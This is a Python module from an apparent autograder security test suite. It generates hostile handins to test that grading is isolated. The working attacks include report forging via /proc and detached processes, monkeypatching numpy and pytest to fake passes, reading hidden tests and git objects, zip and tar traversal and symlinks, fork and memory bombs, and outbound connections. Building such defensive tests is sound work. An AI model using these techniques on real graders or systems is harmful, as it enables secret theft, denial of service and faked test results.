"""Build hostile and broken handins: small variants of the reference or of the bare handout.

Each variant is a folder (or an archive) made by a builder function, so nothing binary is committed.
Attacks are spliced into working code: `wrap_backward` replaces an op's backward with a wrapper that
runs the attack and then (optionally) the original, so the rest of the package keeps working and the
score without the attack is known. Files an attack manages to write carry MARK in their name, so a test
can look for them anywhere they could land.
"""

from __future__ import annotations

import io
import shutil
import tarfile
import textwrap
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

REPO = Path(__file__).resolve().parents[2]
REFERENCE_PKG = REPO / "solutions" / "hw1p1" / "mytorch"
HANDOUT_PKG = REPO / "handouts" / "hw1p1" / "mytorch"
MARK = "w2a-pwned"  # every file an attack tries to create has this in its name
SLEEP_MARK = "98765"  # `sleep 98765.4`: escaped children are recognisable in /proc

# The forged report an attacker would like Gradescope to read.
FORGED_TEXT = "forged-report-" + MARK  # only a forgery contains this (refusals may name MARK files)
FORGED = '{"score": 100.0, "tests": [], "output": "%s"}' % FORGED_TEXT


def copy_package(base: str, dest_root: Path) -> Path:
    """dest_root/mytorch: a copy of the reference ("reference") or the bare handout ("handout")."""
    src = {"reference": REFERENCE_PKG, "handout": HANDOUT_PKG}[base]
    dest = dest_root / "mytorch"
    shutil.copytree(src, dest, ignore=shutil.ignore_patterns("__pycache__"))
    return dest


def append(pkg: Path, rel: str, code: str) -> None:
    """Append `code` (dedented) to the package module `rel` (e.g. "ops/elementwise.py")."""
    path = pkg / rel
    path.write_text(path.read_text() + "\n\n" + textwrap.dedent(code))


def wrap_backward(
    pkg: Path, ops: tuple[str, ...], attack: str, *, call_original: bool = True, result: str = "out"
) -> None:
    """Make `Op.backward` (for each op in mytorch/ops/elementwise.py) run `attack` first.

    `attack` is a function body over `self, grad_output` (indented by us); it may set `out` after the
    original ran (`result` is what the wrapper returns), or skip the original entirely.
    """
    body = textwrap.indent(textwrap.dedent(attack), " " * 8)
    for op in ops:
        call = f"        out = _orig_{op}(self, grad_output)\n" if call_original else "        out = None\n"
        append(
            pkg,
            "ops/elementwise.py",
            (
                f"_orig_{op} = {op}.backward\n\n\n"
                f"def _hostile_{op}(self, grad_output):\n"
                f"        import os, sys, time\n"
                f"{call}{body}\n"
                f"        return {result}\n\n\n"
                f"{op}.backward = _hostile_{op}\n"
            ),
        )


def results_targets_code() -> str:
    """Python source defining `_targets()`: every results path an attacker can guess from its parents."""
    return textwrap.dedent(f'''
        def _targets():
            import os
            found = ["/tmp/{MARK}-tmp.json", os.path.join(os.getcwd(), "..", "..", "{MARK}-scratch-parent")]
            pid = os.getpid()
            for _ in range(6):  # walk up the parents: the grader, its CLI, the test runner
                try:
                    with open(f"/proc/{{pid}}/stat") as f:
                        pid = int(f.read().rsplit(")", 1)[1].split()[1])
                except Exception:
                    break
                if pid <= 1:
                    break
                try:
                    args = open(f"/proc/{{pid}}/cmdline", "rb").read().split(b"\\0")
                    cwd = os.readlink(f"/proc/{{pid}}/cwd")
                except Exception:
                    continue
                found += [os.path.join(cwd, "results.json"), os.path.join(cwd, "{MARK}-cwd")]
                for i, a in enumerate(args):
                    if a == b"--results" and i + 1 < len(args):
                        r = os.path.join(cwd, args[i + 1].decode())
                        found += [r, r + ".{MARK}"]
            return found


        def _forge():
            for t in _targets():
                try:
                    with open(t, "w") as f:
                        f.write({FORGED!r})
                except Exception:
                    pass
    ''')


@dataclass
class Case:
    """One handin variant: how to build it, which suite grades it, and what it may score at most."""

    name: str
    build: Callable[[Path], Path]  # build(tmp_dir) -> the handin path (folder or archive)
    base: str  # "reference" or "handout": the attack-free score it must not exceed
    cli: bool = False  # grade through `python -m autograder grade` (attacks that read the parent's argv)
    root_only: bool = False  # unsafe or meaningless without the uid drop (e.g. a fork bomb without NPROC)
    note: str = ""
    extra: dict = field(default_factory=dict)


def _variant(base: str, edit: Callable[[Path], None], archive: str | None = None) -> Callable[[Path], Path]:
    """A builder: copy `base` into tmp/handin, apply `edit(pkg)`."""

    def build(tmp: Path) -> Path:
        root = tmp / "handin"
        root.mkdir()
        edit(copy_package(base, root))
        return root

    return build


# ---- hostile attacks -----------------------------------------------------------------------------


def _forge_then_exit(pkg: Path) -> None:
    append(pkg, "__init__.py", results_targets_code() + "\n_forge()\nimport os\nos._exit(0)\n")


def _forge_mid_grade(pkg: Path) -> None:
    append(pkg, "ops/elementwise.py", results_targets_code())
    wrap_backward(pkg, ("Mul",), "_forge()\nos._exit(0)\n")


def _sys_exit_import(pkg: Path) -> None:
    append(pkg, "__init__.py", "import sys\nsys.exit(0)\n")


def _thread_rewrites(pkg: Path) -> None:
    append(
        pkg,
        "__init__.py",
        results_targets_code()
        + textwrap.dedent("""
        import threading, time


        def _loop():
            while True:
                _forge()
                time.sleep(0.05)


        threading.Thread(target=_loop, daemon=True).start()
    """),
    )


def _atexit_rewrites(pkg: Path) -> None:
    append(
        pkg,
        "__init__.py",
        results_targets_code()
        + textwrap.dedent("""
        import atexit, signal
        atexit.register(_forge)
        for _s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
            signal.signal(_s, lambda *a: _forge())
    """),
    )


def _setsid_escape(pkg: Path) -> None:
    # Double fork, setsid, and exec a shell with an EMPTY environment (no worker token), which waits
    # and then forges the report; a second child stays a Python process ignoring SIGTERM.
    append(
        pkg,
        "__init__.py",
        results_targets_code()
        + textwrap.dedent(f"""
        import os, signal, time
        _cmd = "sleep {SLEEP_MARK}.4 & sleep 1.5; " + "; ".join(
            f"echo forged > {{t}}" for t in _targets())
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execve("/bin/sh", ["sh", "-c", _cmd], {{}})
            if os.fork() == 0:
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                time.sleep(1.5)
                _forge()
                os._exit(0)
            os._exit(0)
    """),
    )


def _patch_numpy(pkg: Path) -> None:
    append(
        pkg,
        "__init__.py",
        """
        import builtins, numpy, numpy.testing
        numpy.allclose = lambda *a, **k: True
        numpy.isclose = lambda a, b, *r, **k: numpy.ones(numpy.broadcast(a, b).shape, bool)
        numpy.array_equal = lambda *a, **k: True
        numpy.testing.assert_allclose = lambda *a, **k: None
        numpy.testing.assert_array_equal = lambda *a, **k: None
        builtins.abs = lambda x: 0
        builtins.isinstance = lambda *a: True
    """,
    )


def _patch_pytest(pkg: Path) -> None:
    append(
        pkg,
        "__init__.py",
        """
        try:
            import _pytest.runner, _pytest.reports, pytest
            _pytest.reports.TestReport.outcome = "passed"
            _pytest.runner.call_and_report = lambda *a, **k: None
            pytest.fail = lambda *a, **k: None
            pytest.approx = lambda *a, **k: a[0] if a else None
        except Exception:
            pass
    """,
    )


def _conftest(tmp_pkg: Path) -> None:
    conftest = (
        """
import pytest

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    rep = outcome.get_result()
    rep.outcome = "passed"
    open("/tmp/%s-conftest", "w").write("ran")
"""
        % MARK
    )
    (tmp_pkg.parent / "conftest.py").write_text(conftest)
    (tmp_pkg / "conftest.py").write_text(conftest)


def _shadow_modules(tmp_pkg: Path) -> None:
    evil = f'open("/tmp/{MARK}-shadow", "w").write("imported")\nallclose = lambda *a, **k: True\n'
    for name in ("numpy.py", "pytest.py", "jsonschema.py"):
        (tmp_pkg.parent / name).write_text(evil)
        (tmp_pkg / name).write_text(evil)


def _read_secrets_code(paths: list[str]) -> str:
    return textwrap.dedent(f"""
        import glob as _glob
        _stolen = []
        for _pattern in {paths!r}:
            for _p in _glob.glob(_pattern, recursive=True):
                try:
                    _stolen.append(open(_p, errors="replace").read())
                except Exception as _e:
                    pass
        _stolen = "\\n".join(_stolen)
    """)


def secret_globs(extra: list[str] | None = None) -> list[str]:
    """Where the hidden tests and the reference live (an attacker may know the course's layout)."""
    hw = REPO / "autograder" / "assignments" / "hw1p1"
    return [
        str(hw / "tests" / "**" / "*.py"),
        str(REPO / "solutions" / "hw1p1" / "mytorch" / "**" / "*.py"),
        str(SAMPLE_HANDIN / "**" / "*.py"),
        "/autograder/source/**/*.py",
        *(extra or []),
    ]


def _leak(pkg: Path, globs: list[str]) -> None:
    append(pkg, "ops/elementwise.py", _read_secrets_code(globs))
    # Print it (captured output) and raise it (the failure message): both reach the report if readable.
    wrap_backward(pkg, ("Mul",), "print(_stolen[:60000])\nif _stolen:\n    raise ValueError(_stolen[:60000])\n")


def _import_reference(pkg: Path, globs: list[str]) -> None:
    ref = str(REPO / "solutions" / "hw1p1")
    (pkg / "__init__.py").write_text(
        textwrap.dedent(f"""
        import importlib.util, sys
        _spec = importlib.util.spec_from_file_location(
            "mytorch", {ref!r} + "/mytorch/__init__.py",
            submodule_search_locations=[{ref!r} + "/mytorch"])
        _mod = importlib.util.module_from_spec(_spec)
        sys.modules["mytorch"] = _mod
        _spec.loader.exec_module(_mod)
    """)
    )


# Where `make grade` generates the sample handin on a TA's machine (tools/make_sample.py): it holds the
# reference code of most tasks. test_hostile.py generates it there before grading the attacks.
SAMPLE_HANDIN = REPO / "build" / "sample" / "hw1p1"


def _import_sample(pkg: Path) -> None:
    """The generated sample handin holds the reference code of most tasks: import it instead of ours."""
    sample = str(SAMPLE_HANDIN)
    (pkg / "__init__.py").write_text(
        textwrap.dedent(f"""
        import importlib.util, sys
        _spec = importlib.util.spec_from_file_location(
            "mytorch", {sample!r} + "/mytorch/__init__.py", submodule_search_locations=[{sample!r} + "/mytorch"])
        _mod = importlib.util.module_from_spec(_spec)
        sys.modules["mytorch"] = _mod
        _spec.loader.exec_module(_mod)
    """)
    )


def _git_objects(pkg: Path) -> None:
    """Rebuild the reference from the checkout's git objects: inflate every loose object, print and raise it."""
    append(
        pkg,
        "ops/elementwise.py",
        textwrap.dedent(f"""
        def _git_loot():
            import os, zlib
            found, git = [], os.path.join({str(REPO)!r}, ".git")
            try:
                if os.path.isfile(git):  # a worktree: "gitdir: ..." and then its commondir
                    git = open(git).read().split(":", 1)[1].strip()
                    common = os.path.join(git, "commondir")
                    if os.path.exists(common):
                        git = os.path.normpath(os.path.join(git, open(common).read().strip()))
                for folder, _, files in os.walk(os.path.join(git, "objects")):
                    for f in files:
                        data = open(os.path.join(folder, f), "rb").read()
                        starts = [0] if not f.endswith(".pack") else \\
                            [i for i in range(len(data) - 1) if data[i] == 0x78 and data[i + 1] in (0x01, 0x9C, 0xDA)]
                        for i in starts:  # loose objects, and the zlib streams inside packs
                            try:
                                found.append(zlib.decompressobj().decompress(data[i:i + 200000], 200000)
                                             .decode(errors="replace"))
                            except Exception:
                                pass
            except Exception as e:
                found.append(repr(e))
            return "\\n".join(t for t in found if "BEGIN SOLUTION" in t)[:60000]
    """),
    )
    wrap_backward(pkg, ("Mul",), "_l = _git_loot()\nprint(_l)\nif _l:\n    raise ValueError(_l)\n")


PROBE_MARK = "SANDBOX-PROBE:"


def git_object_file() -> str:
    """One file of the checkout's git objects (a worktree's .git is a file naming its git folder)."""
    git = REPO / ".git"
    if git.is_file():
        git = Path(git.read_text().split(":", 1)[1].strip())
        if (git / "commondir").exists():
            git = (git / (git / "commondir").read_text().strip()).resolve()
    return str(next(p for p in (git / "objects").rglob("*") if p.is_file()))


def _probe(pkg: Path, port: int) -> None:
    """Try every door from inside the worker and raise what happened (the report carries it to the test)."""
    hw = REPO / "autograder" / "assignments" / "hw1p1"
    targets = {
        "hidden tests": str(next((hw / "tests" / "hidden").glob("*.py"))),
        "reference": str(REFERENCE_PKG / "ops" / "elementwise.py"),
        "sample handin": str(SAMPLE_HANDIN / "mytorch" / "ops" / "elementwise.py"),
        "git objects": git_object_file(),
        "grader source": str(REPO / "autograder" / "framework" / "grade.py"),
    }
    wrap_backward(
        pkg,
        ("Mul",),
        f'''
        import json, socket, errno as _e
        def _err(fn):
            try:
                fn()
                return "OPEN"
            except OSError as e:
                return _e.errorcode.get(e.errno, str(e.errno))
        def _connect():
            s = socket.socket()
            s.settimeout(1)
            s.connect(("127.0.0.1", {port}))
        got = {{"connect": _err(_connect)}}
        for what, path in {targets!r}.items():
            got["read " + what] = _err(lambda p=path: open(p, "rb").read(1))
        for d in ("/tmp", "/dev/shm", "/run/lock"):
            got["write " + d] = _err(lambda d=d: open(d + "/{MARK}-probe", "w").write("x"))
        raise ValueError("{PROBE_MARK}" + json.dumps(got) + ":END")
    ''',
        call_original=False,
    )


def _infinite_loop(pkg: Path) -> None:
    wrap_backward(
        pkg,
        ("Neg",),
        """
        import signal
        if grad_output.shape != (3, 5):  # one test is enough (each costs the 5 s deadline)
            return out
        for s in (signal.SIGTERM, signal.SIGALRM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU):
            signal.signal(s, signal.SIG_IGN)
        signal.alarm(0)
        while True:
            pass
    """,
    )


def _memory_bomb(pkg: Path) -> None:
    wrap_backward(
        pkg,
        ("Exp",),
        """
        import numpy as np
        hog = [np.ones(1 << 20)]  # touched: real memory
        while True:  # then address space without touching it (fast, yet the same limit)
            hog.append(np.empty(1 << 26, np.uint8))
    """,
    )


def _fork_bomb(pkg: Path) -> None:
    wrap_backward(
        pkg,
        ("Div",),
        f'''
        kids = 0
        try:
            while kids < 2000:
                if os.fork() == 0:
                    try:
                        os.fork()  # each child forks once more before sleeping
                    except OSError:
                        pass
                    os.execv("/bin/sleep", ["sleep", "{SLEEP_MARK}.4"])
                kids += 1
        except OSError:
            pass
    ''',
    )


def _stdout_flood(pkg: Path) -> None:
    append(
        pkg,
        "__init__.py",
        """
        import sys as _sys
        _chunk = "x" * (1 << 20) + "\\n"
        for _ in range(200):
            _sys.stdout.write(_chunk)
        _sys.stdout.flush()
    """,
    )


def _network(pkg: Path, port: int) -> None:
    wrap_backward(
        pkg,
        ("Mul",),
        f'''
        import socket
        for host, p in (("127.0.0.1", {port}), ("1.1.1.1", 53), ("8.8.8.8", 53)):
            try:
                s = socket.create_connection((host, p), timeout=0.5)
                s.sendall(b"{MARK}")
                s.close()
                print("connected to", host)
            except OSError as e:
                print("no network:", e)
    ''',
    )


def _lying_objects(pkg: Path) -> None:
    append(
        pkg,
        "ops/elementwise.py",
        '''
        import numpy as _np


        class _Liar:
            """Equal to everything, close to everything."""
            shape = (3, 5)
            dtype = _np.dtype("float64")
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __array_function__(self, func, types, args, kwargs): return True
            def __array_ufunc__(self, ufunc, method, *inputs, **kwargs): return True
            def __array__(self, *a, **k): raise TypeError("no")
            def __reduce__(self): return (print, ("unpickled!",))


        class _LiarArray(_np.ndarray):
            def __eq__(self, other): return _np.ones(_np.shape(other), bool)
            def __array_function__(self, func, types, args, kwargs): return True
    ''',
    )
    wrap_backward(pkg, ("Mul", "Add", "Sub", "Pow"), "out = (_Liar(), _Liar())\n", call_original=False)
    wrap_backward(
        pkg,
        ("Div", "Neg", "Exp", "Log"),
        "out = tuple(_np.zeros_like(grad_output).view(_LiarArray) for _ in range(2))\n",
        call_original=False,
    )


def _symlink_package(tmp: Path) -> Path:
    root = tmp / "handin"
    root.mkdir()
    (root / "mytorch").symlink_to(REFERENCE_PKG)
    return root


def _symlinked_modules(tmp: Path) -> Path:
    root = tmp / "handin"
    root.mkdir()
    pkg = copy_package("handout", root)
    (pkg / "ops" / "elementwise.py").unlink()
    (pkg / "ops" / "elementwise.py").symlink_to(REFERENCE_PKG / "ops" / "elementwise.py")
    (pkg / "ops" / "broadcast.py").unlink()
    (pkg / "ops" / "broadcast.py").symlink_to(REFERENCE_PKG / "ops" / "broadcast.py")
    return root


def _evil_zip(tmp: Path) -> Path:
    path = tmp / "handin.zip"
    with zipfile.ZipFile(path, "w") as z:
        for f in sorted(REFERENCE_PKG.rglob("*.py")):
            z.write(f, "mytorch/" + str(f.relative_to(REFERENCE_PKG)))
        z.writestr(f"../../{MARK}-zip-dotdot", "x")
        z.writestr(f"/tmp/{MARK}-zip-abs", "x")
        link = zipfile.ZipInfo(f"mytorch/{MARK}-link")
        link.external_attr = 0o120777 << 16  # a symlink entry, as `zip --symlinks` writes it
        z.writestr(link, "/etc/passwd")
    return path


def _evil_tar(tmp: Path) -> Path:
    path = tmp / "handin.tar.gz"
    with tarfile.open(path, "w:gz") as t:
        t.add(str(REFERENCE_PKG), arcname="mytorch", filter=lambda i: None if "__pycache__" in i.name else i)
        for name, kind, target in (
            (f"mytorch/{MARK}-sym", tarfile.SYMTYPE, str(REPO / "solutions" / "hw1p1")),
            (f"mytorch/{MARK}-hard", tarfile.LNKTYPE, "/etc/passwd"),
            (f"../{MARK}-tar-dotdot", tarfile.REGTYPE, ""),
            (f"/tmp/{MARK}-tar-abs", tarfile.REGTYPE, ""),
        ):
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, target
            t.addfile(info, io.BytesIO(b"") if kind == tarfile.REGTYPE else None)
    return path


def hostile_cases(port: int, extra_secret_globs: list[str]) -> list[Case]:
    """The hostile corpus (>= 15 cases). `port`: a TCP listener the network attack tries to reach."""
    globs = secret_globs(extra_secret_globs)

    def tree(fn: Callable[[Path], None], base: str) -> Callable[[Path], Path]:
        def build(tmp: Path) -> Path:
            root = tmp / "handin"
            root.mkdir()
            fn(copy_package(base, root))
            return root

        return build

    return [
        Case("forge_results_then_os_exit", _variant("handout", _forge_then_exit), "handout", cli=True),
        Case("forge_mid_grade_then_os_exit", _variant("reference", _forge_mid_grade), "reference", cli=True),
        Case("sys_exit_at_import", _variant("reference", _sys_exit_import), "reference"),
        Case("thread_rewrites_report", _variant("handout", _thread_rewrites), "handout", cli=True),
        Case("atexit_and_signal_rewrite", _variant("handout", _atexit_rewrites), "handout", cli=True),
        Case("setsid_escape_rewrites_later", _variant("handout", _setsid_escape), "handout", cli=True),
        Case("patch_numpy_and_builtins", _variant("handout", _patch_numpy), "handout"),
        Case("patch_pytest_internals", _variant("handout", _patch_pytest), "handout"),
        Case("conftest_in_handin", tree(_conftest, "handout"), "handout"),
        Case("numpy_pytest_shadow_modules", tree(_shadow_modules, "handout"), "handout"),
        Case("read_and_print_secrets", _variant("reference", lambda p: _leak(p, globs)), "reference"),
        Case("import_reference_by_path", _variant("handout", lambda p: _import_reference(p, globs)), "handout"),
        Case("symlink_to_reference", _symlink_package, "handout"),
        Case("symlinked_modules", _symlinked_modules, "handout"),
        Case("zip_dotdot_abs_symlink", _evil_zip, "handout"),
        Case("tar_symlink_hardlink_dotdot", _evil_tar, "handout"),
        Case("infinite_loop_ignoring_signals", _variant("reference", _infinite_loop), "reference"),
        Case("memory_bomb", _variant("reference", _memory_bomb), "reference"),
        Case("fork_bomb", _variant("reference", _fork_bomb), "reference", root_only=True),
        Case("stdout_flood_200MB", _variant("reference", _stdout_flood), "reference"),
        Case("network_connection", _variant("reference", lambda p: _network(p, port)), "reference"),
        Case("lying_eq_and_array_function", _variant("handout", _lying_objects), "handout"),
        Case("import_sample_handin", _variant("handout", _import_sample), "handout"),
        Case("rebuild_from_git_objects", _variant("reference", _git_objects), "reference"),
        Case("probe_sandbox", _variant("reference", lambda p: _probe(p, port)), "reference"),
    ]
